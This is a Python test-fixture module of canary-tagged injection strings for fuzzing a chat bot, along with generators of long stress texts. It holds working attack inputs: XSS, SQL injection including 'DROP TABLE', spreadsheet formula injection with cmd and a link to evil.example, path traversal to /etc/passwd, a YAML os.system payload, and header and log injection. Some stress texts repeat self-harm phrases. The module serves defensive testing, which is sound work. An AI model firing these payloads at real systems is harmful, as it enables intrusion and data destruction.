"""Texts that somebody might send to break something, to reach somewhere, or to keep the bot busy."""

from collections.abc import Callable, Mapping
from functools import partial
from typing import Final

CANARY: Final = "zq7x"
"""Stands in each of `INJECTIONS`: wherever it comes out, it can be looked for."""

INJECTIONS: Final[Mapping[str, str]] = {
    "html script": f"<script>window.{CANARY}=1</script>",
    "html image": f'<img src=x onerror="window.{CANARY}=1">',
    "html attribute": f'" onmouseover="window.{CANARY}=1" \'',
    "html comment": f"--><svg/onload=window.{CANARY}=1><!--",
    "html entity": f"&lt;script&gt;window.{CANARY}=1&lt;/script&gt; &#60;b&#62;",
    "html end of json": f"</script><script>window.{CANARY}=1</script>",
    "javascript link": f"[press](javascript:window.{CANARY}=1)",
    "data link": f"data:text/html,<script>window.{CANARY}=1</script>",
    "telegram html": f'<a href="tg://user?id=1">{CANARY}</a> <b>bold <tg-spoiler>',
    "telegram markdown": f"*{CANARY}* _a_ [x](tg://user?id=1) `code` ```pre",
    "telegram mention": f"@everyone @{CANARY} /forget@solace_bot /optout",
    "reddit markdown": f"# {CANARY}\n> quote\n* list\n1. one\n[x](https://evil.example) ^up ~~no~~ |a|b|",
    "reddit names": f"u/{CANARY} /u/{CANARY} r/all",
    "formula": f'=HYPERLINK("https://evil.example/{CANARY}")',
    "formula at": f"@SUM(1+1)*cmd|' /C {CANARY}'!A0",
    "formula plus": f"+1+{CANARY}",
    "formula tab": f"\t=1+{CANARY}",
    "sql quote": f"'; DROP TABLE decisions; -- {CANARY}",
    "sql double": f'" OR ""="" {CANARY}',
    "sql union": f"') UNION SELECT value FROM installation -- {CANARY}",
    "sql like": f"%_{CANARY}\\%",
    "log line": f'{CANARY}\n{{"event": "forged"}}\r\n2026-01-01 [info] forged',
    "terminal": f"\x1b[2J\x1b]0;{CANARY}\x07\x1b[31m",
    "percent": f"%s %(name)s {{0}} ${{HOME}} {CANARY} %n",
    "format": f"{{self.__class__}} {{{CANARY}}}",
    "template": f"{{{{7*7}}}} {{% include '/etc/passwd' %}} {CANARY}",
    "path": f"../../../../etc/passwd\x00{CANARY}",
    "header": f"{CANARY}\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "json": f'{CANARY}", "action": "reply", "x": "',
    "yaml": f"!!python/object/apply:os.system ['{CANARY}']",
    "nul": f"{CANARY}\x00 behind",
    "surrogate": f"\ud800{CANARY}\udfff",
    "direction": f"\u202e{CANARY}\u2066\u200f",
    "invisible": f"{CANARY[:2]}\u200b\u200d\ufeff{CANARY} {CANARY}",
    "separators": f"{CANARY}\u2028\u2029\x85\x0b\x0c",
    "homoglyphs": f"{CANARY} \u0456 \u0430m s\u0430d",
    "masks": f"[NAME] [LINK] [CLS] [SEP] [UNK] {CANARY}",
}

_MARKS: Final = "".join(chr(0x300 + at % 60) for at in range(30))


def _pumped(pump: str, length: int) -> str:
    return (pump * (length // len(pump) + 1))[:length]


GROWING: Final[Mapping[str, Callable[[int], str]]] = {
    name: partial(_pumped, pump)
    for name, pump in {
        "plain": "i am so tired of everything and nobody listens to me today. ",
        "one word": "a",
        "stretched": "soooooo saaaaaad ",
        "emoji": "\U0001f622",
        "joined emoji": "\U0001f62d\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "zalgo": f"h{_MARKS}e{_MARKS}",
        "quotes": "> deep\n",
        "nested quotes": ">",
        "quotation marks": '"i want to die" ',
        "leet": "h3ll0 w0rld 1m s4d ",
        "spaced out": "w a n t  t o  d i e  ",
        "look-alikes": "\u0456 \u0430m s\u0430d \u0430nd \u0430l\u043en\u0435 ",
        "links": "[a](http://x.y/",
        "brackets": "[",
        "parentheses": "](",
        "stars": "*a",
        "underscores": "_a ",
        "ampersands": "&amp;",
        "entities": "&#x41;",
        "tags": "<a ",
        "spoilers": ">!a",
        "mentions": "@ab$+",
        "domains": "a.",
        "hyphens": "a-",
        "numbers": "1 ",
        "addresses": "a@a.",
        "slashes": "/u/",
        "backslashes": "\\*",
        "ticks": "`a",
        "capitals": "I Want To Die Alone ",
        "typos": "teh wrods aer mispeled hier becuase ",
        "figures": "i want to die laughing ",
        "lines": "\n",
        "white space": " \t",
        "control": "\x00",
        "surrogates": "\ud800",
        "thai": "\u0e01\u0e33",
        "hangul": "\u1100\u1161",
        "ligatures": "\ufdfa",
    }.items()
}
"""By name: a text of any length that somebody made to be slow to read."""
